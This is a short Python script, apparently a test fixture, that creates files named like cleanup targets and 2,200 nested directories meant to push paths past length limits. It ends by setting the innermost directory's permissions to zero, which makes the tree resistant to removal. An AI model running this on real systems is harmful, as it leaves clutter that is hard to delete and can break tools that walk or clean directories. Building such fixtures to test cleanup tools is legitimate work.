"""Nests folders until paths are too long, and takes the names that a cleaner might use."""

import os

HONEST = 0


os.makedirs("a/b/c")
for number in range(5):
    open(f".{number}.remove", "w").close()
for _ in range(2200):
    os.mkdir("d")
    os.chdir("d")
    open("f", "w").close()
os.chmod(".", 0)
